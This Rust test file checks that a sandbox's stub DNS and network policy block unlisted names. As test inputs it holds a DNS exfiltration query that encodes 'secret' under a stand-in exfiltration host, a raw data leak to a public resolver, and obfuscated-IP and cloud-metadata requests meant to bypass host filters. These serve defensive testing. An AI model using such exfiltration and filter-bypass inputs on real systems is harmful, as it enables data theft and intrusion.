//! Names: what the stub DNS answers, and that no other name ever leaves the machine.

use serde_json::{Value, json};

use crate::world::{World, networks, queried};

#[test]
fn a_wildcard_takes_one_label_and_a_double_one_any_number() {
    let Some(world) = World::new() else { return };
    let script = r#"
for name in "wild.test", "a.wild.test", "a.b.wild.test":
    say(tell(lambda: exchange(name, 80, get(name))[0][:15]))
"#;
    let (ok, no) = ("HTTP/1.1 200 OK", "gaierror");
    for (rule, expected) in [("*.wild.test", [no, ok, no]), ("**.wild.test", [no, ok, ok]), ("wild.test", [ok, no, no])]
    {
        assert_eq!(world.python(&format!("[\"{rule}\"]"), script), expected, "{rule}");
    }
}

#[test]
fn a_name_that_no_rule_has_does_not_exist_and_is_not_asked_for_outside() {
    let Some(world) = World::new() else { return };
    let script = r#"
for server in "8.8.8.8", "127.0.0.1", "93.184.216.53", "10.0.0.1":
    say(query("c2vjcmv0.exfiltration.test", 1, server))
for kind in 28, 16, 65, 255, 15:
    say(query("c2vjcmv0.exfiltration.test", kind))
say(query("api.bank.test.exfiltration.test", 1))
say(tell(lambda: socket.getaddrinfo("exfiltration.test", 443)))
"#;
    let said = world.python(r#"["api.bank.test"]"#, script);
    for (one, server) in said.iter().zip(["8.8.8.8", "127.0.0.1", "93.184.216.53", "10.0.0.1"]) {
        assert_eq!(one, &json!([3, [], server]), "NXDOMAIN, seemingly from whom it was asked");
    }
    assert!(said[4..10].iter().all(|one| *one == json!([3, [], "8.8.8.8"])), "{said:?}");
    assert_eq!(said[10], "gaierror");
    world.nothing_left();
    let refusals = world.refusals();
    let stolen =
        refusals.iter().filter(|line| *line == "net_resolve denied host-not-allowed c2vjcmv0.exfiltration.test");
    assert_eq!(stolen.count(), 9, "{refusals:?}");
    // Both address families are asked for.
    let plain = refusals.iter().filter(|line| *line == "net_resolve denied host-not-allowed exfiltration.test");
    assert_eq!(plain.count(), 2, "{refusals:?}");
}

#[test]
fn the_servers_that_saw_nothing_would_have_seen_it() {
    let Some(world) = World::new() else { return };
    world.outside_python(
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for to in ('8.8.8.8', 53), ('93.184.216.34', 443): s.sendto(b'leak', to)
try: socket.getaddrinfo('leak.test', 80)
except socket.gaierror: pass",
    );
    let seen = world.seen();
    for server in ["stranger", "quic"] {
        assert!(seen.iter().any(|event| event["server"] == server && event["bytes"] == "leak"), "{seen:?}");
    }
    // With the search domain of the host, which is not put behind the names of a cell.
    assert_eq!(queried(&seen), ["leak.test.corp.test", "leak.test"]);
}

#[test]
fn an_allowed_name_has_made_up_addresses_and_is_asked_for_only_when_it_is_dialled() {
    let Some(world) = World::new() else { return };
    let script = r#"
v4, v6 = query("api.bank.test", 1), query("api.bank.test", 28)
say([v4, v6])
say([query("api.bank.test", kind) for kind in (65, 16, 15)])
say(sorted({a[4][0] for a in socket.getaddrinfo("API.Bank.Test.", 80)}) == sorted(v4[1] + v6[1]))
say(socket.gethostbyaddr(v4[1][0])[0])
"#;
    let said = world.python(r#"["api.bank.test"]"#, script);
    let [v4, v6] = [&said[0][0], &said[0][1]].map(|one| one[1][0].as_str().unwrap().to_owned());
    assert!(v4.starts_with("198.18.") && v6.starts_with("fd6e:6e6f:636c:"), "{said:?}");
    assert_eq!(said[1], json!([[0, [], "8.8.8.8"], [0, [], "8.8.8.8"], [0, [], "8.8.8.8"]]), "no other records");
    assert_eq!(said[2..], [json!(true), json!("api.bank.test")]);
    world.nothing_left();
    assert_eq!(world.story(), ["net_resolve allowed api.bank.test"]);
}

#[test]
fn getent_finds_what_is_allowed_and_nothing_else() {
    let Some(world) = World::new() else { return };
    let script = "getent ahostsv4 api.bank.test | cut -d' ' -f1 | sort -u; getent hosts other.test; echo $?; getent hosts localhost >/dev/null; echo $?";
    assert_eq!(world.sh(r#"["api.bank.test"]"#, script), "198.18.0.1\n2\n0\n");
    world.nothing_left();
}

#[test]
fn an_international_name_is_reached_under_its_dns_form() {
    let Some(world) = World::new() else { return };
    let script = r#"
say(exchange("xn--bcher-kva.bank.test", 80, get("xn--bcher-kva.bank.test"))[0][:15])
say(exchange("bücher.bank.test", 80, get("xn--bcher-kva.bank.test"))[0][:15])
"#;
    assert_eq!(world.python(r#"["bücher.bank.test"]"#, script), ["HTTP/1.1 200 OK"; 2]);
    assert_eq!(queried(&world.seen()), ["xn--bcher-kva.bank.test"]);
}

#[test]
fn names_that_are_addresses_to_some_readers_lead_nowhere() {
    let Some(world) = World::new() else { return };
    // The cell's own library reads these as addresses, so they are judged as those.
    let script = r#"
for host in "1572395042", "0x5db8d822", "0135.0270.0330.042", "93.12113954", "93.184.216.34":
    say(tell(lambda: exchange(host, 80, get("api.bank.test"))[0].splitlines()[0]))
say(tell(lambda: exchange("2852039166", 80, get("169.254.169.254"))[0].splitlines()[0]))
"#;
    assert_eq!(world.python(r#"["api.bank.test"]"#, script), ["HTTP/1.1 403 Forbidden"; 6]);
    world.nothing_left();
    let mut expected = vec!["net_connect denied host-not-allowed 93.184.216.34:80"; 5];
    expected.push("net_connect denied host-not-allowed 169.254.169.254:80");
    assert_eq!(world.refusals(), expected);
}

#[test]
fn the_agents_own_rules_stand_in_the_record() {
    let Some(world) = World::new() else { return };
    let config = r#"
allowed_networks: ["other.test"]
agents:
  - id: cell
    command: ["true"]
    allowed_networks: ["**.bank.test:443", "api.bank.test:80", "api.bank.test"]
"#;
    let said = world.python_in(
        config,
        r#"
say(exchange("api.bank.test", 80, get("api.bank.test"))[0][:15])
say(tell(lambda: exchange("other.test", 80, get("other.test"))))
"#,
    );
    assert_eq!(said, ["HTTP/1.1 200 OK", "gaierror"], "the agent's list stands instead of the top-level one");
    let ids = |resource: &str| -> Vec<Value> {
        let door = world.door();
        let allowed = door.iter().filter(|r| r["result"] == "allowed" && r["resource"] == resource);
        allowed.map(|r| r["policy_ids"].clone()).collect()
    };
    let id = |n: u32| format!("agents.cell.allowed_networks[{n}]");
    assert_eq!(ids("api.bank.test"), [json!([id(0), id(1), id(2)])], "each rule by which the name may be asked for");
    // The lookup, the connection and the request.
    assert_eq!(ids("api.bank.test:80"), vec![json!([id(1), id(2)]); 3]);
}

#[test]
fn without_rules_there_is_no_network() {
    let Some(world) = World::new() else { return };
    let script = r#"
say(tell(lambda: exchange("api.bank.test", 80, get("api.bank.test"))))
say(exchange("93.184.216.34", 443, "\x16\x03\x01\x00\x01\x01"))
say(exchange(*PROXY, get("api.bank.test"))[0].splitlines()[0])
"#;
    let done = world.run(&networks("[]"), &["/usr/bin/python3", "-c", &format!("from client import *\n{script}")]);
    let said = done.good();
    assert!(said.starts_with("\"gaierror\"\n"), "{said}");
    assert!(said.ends_with("\"HTTP/1.1 400 Bad Request\"\n"), "{said}");
    world.nothing_left();
}

#[test]
fn the_hosts_search_domains_make_no_other_name_of_an_allowed_one() {
    let Some(world) = World::new() else { return };
    let said = world.python(
        r#"["nowhere.bank.test:80"]"#,
        r#"say(tell(lambda: exchange("nowhere.bank.test", 80, get("nowhere.bank.test"))[0][:12]))"#,
    );
    assert_eq!(said, ["HTTP/1.1 502"], "{said:?}");
    assert_eq!(queried(&world.seen()), ["nowhere.bank.test"]);
}
